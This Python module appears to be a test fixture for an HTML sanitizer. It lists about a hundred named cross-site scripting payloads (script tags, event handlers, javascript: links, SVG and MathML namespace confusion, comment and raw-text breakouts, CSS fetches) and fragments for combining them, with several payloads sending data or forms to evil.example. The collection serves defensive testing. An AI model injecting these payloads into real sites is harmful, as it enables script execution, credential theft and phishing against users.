"""Hostile HTML in one place: a payload of every class of script injection we know of, and pieces to mix."""

from __future__ import annotations

EVIL = "http://evil.example"
PAYLOADS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals with a stroke": "<SCRIPT/x SRC=http://evil.example/x.js></SCRIPT>",
    "a script split by a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script never closed": "<script>alert(1)",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler behind a stroke": "<img/src=x/onerror=alert(1)>",
    "a handler behind a form feed": "<img\x0csrc=x\x0conerror=alert(1)>",
    "a handler with backticks": "<img src=`x` onerror=`alert(1)`>",
    "a handler on any element": "<p onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>Hi</p>",
    "a handler on an unknown element": "<x onclick=alert(1) style=position:fixed;inset:0>Hi</x>",
    "details that open": "<details open ontoggle=alert(1)>Hi</details>",
    "a link that runs": "<a href=javascript:alert(1)>Hi</a>",
    "a link that runs, with a tab": "<a href='java\tscript:alert(1)'>Hi</a>",
    "a link that runs, with a line end as entity": "<a href='java&NewLine;script&colon;alert(1)'>Hi</a>",
    "a link that runs, in numbers": "<a href='&#0000106&#x61;vascript:alert(1)'>Hi</a>",
    "a link that runs, behind a control": "<a href='\x01javascript:alert(1)'>Hi</a>",
    "a link that runs, behind an entity": "<a href='&#14;javascript:alert(1)'>Hi</a>",
    "a link that runs elsewhere": (
        "<a href=vbscript:x>Hi</a><a href='view-source:javascript:x'>Hi</a><a "
        "href=blob:x>Hi</a>"
    ),
    "a link to a page in itself": "<a href='data:text/html,<script>alert(1)</script>'>Hi</a>",
    "a link in a map": "<img usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>",
    "a link with attributes that act": (
        "<a href=https://x.example ping=http://evil.example target=_self "
        "download>Hi</a>"
    ),
    "a page in itself as picture": "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "a drawing as picture": "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "a drawing that says it is a picture": "<img src='data:image/png,<svg onload=alert(1)>'>",
    "a drawing": "<svg onload=alert(1)><circle r=9></svg>",
    "a drawing with a script": "<svg><script>alert(1)</script></svg>",
    "a drawing with a script in an entity": "<svg><script>&#97;lert(1)</script></svg>",
    "a drawing with a link": "<svg><a xlink:href=javascript:alert(1)><text y=20>Hi</text></a></svg>",
    "a drawing that uses another": (
        "<svg><use href=http://evil.example/x.svg#x></use><image "
        "href=http://evil.example/x></svg>"
    ),
    "a drawing that animates": (
        "<svg><a><animate attributeName=href "
        "values=javascript:alert(1)><text>Hi</text></a></svg>"
    ),
    "a drawing with mark-up": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "formulas": (
        "<math href=javascript:alert(1)>Hi</math><math><maction actiontype=statusline "
        "xlink:href=javascript:x>Hi"
    ),
    "namespaces: style in formulas": (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;\">"
    ),
    "namespaces: style in a drawing": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "namespaces: title in a drawing": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "namespaces: desc and CDATA": "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "namespaces: CDATA in formulas": "<math><![CDATA[><img src=x onerror=alert(1)>]]></math>",
    "namespaces: a form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "namespaces: annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "namespaces: malignmark": "<math><mi><malignmark><p><style><!--</style><img src=x onerror=alert(1)>-->",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "noscript and style": "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "a template": "<template><img src=x onerror=alert(1)></template>",
    "a template with a shadow": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "raw text": "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "raw text of frames": (
        "<noembed><p title=\"</noembed><img src=x "
        "onerror=alert(1)>\"></noframes><script>alert(1)</script>"
    ),
    "a text field": "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "a title": "<title><p title=\"</title><script>alert(1)</script>\">",
    "a frame's text": "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "a list to choose from": "<select><template><style><!--</select><img src=x onerror=alert(1)>--></style></template>",
    "a comment": "<!--><img src=x onerror=alert(1)>-->",
    "a comment closed with a mark": "<!-- --!><img src=x onerror=alert(1)> -->",
    "a comment closed at once": "<!---><img src=x onerror=alert(1)>-->",
    "a comment within a comment": "<!--<!--><script>alert(1)</script>-->",
    "a comment for one browser": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "a declaration": (
        "<!ENTITY x '<script>alert(1)</script>'><![CDATA[<script>alert(1)</script>]]><?x "
        "<script>alert(1)</script>?>"
    ),
    "a tag never closed": "<img src=x onerror=alert(1)//",
    "a tag within a tag": "<<img src=x onerror=alert(1)>//<",
    "a value never closed": "<img src='x onerror=alert(1)><b title='>",
    "values that touch": "<img src='x'onerror='alert(1)'>",
    "an attribute that begins with a sign": "<img =x onerror=alert(1) \"x='>' onload=alert(1)>",
    "an end tag with attributes": "</p onclick=alert(1)><br//onclick=alert(1)></br x>",
    "NUL": "<scr\0ipt>alert(1)</scr\0ipt><img\0src=x on\0error=alert(1)><a href='java\0script:x'>Hi</a>",
    "signs that look like tags": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\u2039img src=x onerror=alert(1)\u203a",
    "letters that become others": "<\u017fcript>alert(1)</\u017fcript><lin\u212a href=x>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "another charset": (
        "<meta charset=utf-7><meta http-equiv=content-type "
        "content='text/html;charset=utf-7'>\x1b$B<script>alert(1)</script>"
    ),
    "a refresh": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "a base": "<base href=http://evil.example/ target=_self><a href=x>Hi</a><img src=x>",
    "a link element": (
        "<link rel=stylesheet href=http://evil.example/x.css><link rel=prefetch "
        "href=http://evil.example>"
    ),
    "a form": (
        "<form action=http://evil.example><input name=password type=password "
        "autofocus><button>Go</button></form>"
    ),
    "a form from elsewhere": (
        "<button form=f formaction=javascript:alert(1)>Go</button><input type=image "
        "src=http://evil.example>"
    ),
    "a key": "<isindex action=javascript:alert(1)><keygen onfocus=alert(1)>",
    "objects": (
        "<object data=javascript:alert(1)></object><embed src=http://evil.example/x.swf><applet "
        "code=x></applet>"
    ),
    "a frame": "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frames": "<frameset><frame src=javascript:alert(1)></frameset>",
    "film and sound": (
        "<video poster=http://evil.example/1 src=x onerror=alert(1)><source src=x></video><audio src=x "
        "onerror=alert(1)>"
    ),
    "what moves": "<marquee onstart=alert(1)>Hi</marquee><bgsound src=javascript:alert(1)><blink>Hi</blink>",
    "layers": "<layer src=http://evil.example></layer><ilayer src=x></ilayer><dialog open>Hi</dialog>",
    "popovers": "<button popovertarget=main>Hi</button><p popover id=main>Hi</p><p contenteditable draggable>Hi</p>",
    "imports and parts": "<link rel=import href=x><style>@import 'http://evil.example';</style><slot name=x></slot>",
    "many sizes": "<img srcset='http://evil.example/1 2x, javascript:alert(1) 3x' sizes=1px src=x>",
    "old ways to a picture": "<img lowsrc=http://evil.example dynsrc=http://evil.example longdesc=http://evil.example>",
    "a background": "<body background=http://evil.example><table background=javascript:alert(1)><td background=data:x>",
    "quotes of others": "<blockquote cite=javascript:alert(1)>Hi</blockquote><q cite=http://evil.example>Hi</q>",
    "a style": "<style>*{background:url(http://evil.example)}</style>",
    "a style that breaks out": "<p style='color:red}</style><script>alert(1)</script>'>Hi</p>",
    "a style that lies over all": "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Hi</p>",
    "a style that fetches": (
        "<p "
        "style='background:url(//evil.example);list-style:url(x);cursor:url(x);content:url(x)'>Hi</p>"
    ),
    "a style that fetches in other words": (
        "<p style='background:image-set(\"http://evil.example\" "
        "1x);background:image(x)'>Hi</p>"
    ),
    "a style that fetches by way of a name": "<p style='--x:url(http://evil.example);background:var(--x)'>Hi</p>",
    "a style with escapes": "<p style='background:\\75\\72\\6c(http://evil.example);b\\61ckground:u\\rl(x)'>Hi</p>",
    "a style with comments": "<p style='background:u/**/rl(http://evil.example);pos/**/ition:fixed'>Hi</p>",
    "a style with entities": "<p style='background&colon;url&lpar;http&colon;//evil.example&rpar;'>Hi</p>",
    "a style that runs": "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x#y)'>Hi</p>",
    "a style that imports": "<p style='@import \"http://evil.example\";color:red'>Hi</p>",
    "a style that ends a text": "<p style='font-family:\"x;}*{background:url(http://evil.example)\"'>Hi</p>",
    "a style with a blocked address that ends": (
        "<p style='--blocked-background:\"https://x\" "
        "url(http://evil.example)\"'>Hi</p>"
    ),
    "a blocked address that ends": "<img data-blocked-src='https://x/\" onerror=\"alert(1)'>",
    "a blocked address in a text": "x src=\"blocked:javascript:alert(1)\"<img alt=' src=\"blocked:x\"'>",
    "names that clobber": (
        "<a id=document name=body></a><img name=getElementById><form id=x><input "
        "name=attributes></form>"
    ),
    "attributes of XML": (
        "<p xmlns:x=http://x x:onclick=alert(1) xml:base=javascript:x "
        "xlink:href=javascript:alert(1)>Hi</p>"
    ),
    "tables that push out": "<table><img src=x onerror=alert(1)><tr><script>alert(1)</script><td><style><td></table>",
    "links within links": "<a href=http://x.example><table><a href=javascript:alert(1)>Hi</a></table></a>",
    "words of frameworks": "{{constructor.constructor('alert(1)')()}}<p ng-app v-html=x data-bind=x hx-get=/x>Hi</p>",
    "a text that turns around": "\u202egpj.exe\u202c<bdo dir=rtl onclick=x>Hi</bdo>",
}  # fmt: skip

PIECES = [
    *PAYLOADS.values(), "<p>", "</p>", "<b>", "</b>", "<a href=http://x.example>", "<table>", "<tr>", "<td>",
    "</table>", "<caption>", "<pre>", "\n", "<svg>", "<math>", "<mtext>", "<style>", "</style>", "<title>",
    "<!--", "-->", "<select>", "<template>", "<form>", "</form>", "<ul>", "<li>", "<h1>", "<dd>", "<div>",
    "</div>", "<img src=cid:logo@x>", "<img src=http://x.example/1>", '"', "'", ">", "<", "&lt;", "&", "\0",
    "\xa0", "x", "\r", "<font color=red>", "<p style='background:url(http://x.example/1)'>", "<ruby>", "<rt>",
    "<nobr>", "<button>", "<object>", "<frameset>",
]  # fmt: skip
